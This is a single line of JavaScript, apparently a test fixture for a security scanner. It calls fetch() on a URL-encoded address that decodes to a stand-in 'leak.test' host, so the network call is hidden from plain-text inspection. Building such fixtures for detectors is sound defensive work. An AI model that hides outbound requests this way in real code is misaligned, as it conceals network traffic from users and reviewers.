fetch(decodeURIComponent("https%3A%2F%2Fjs-fold-decode-uri.leak.test%2F"))
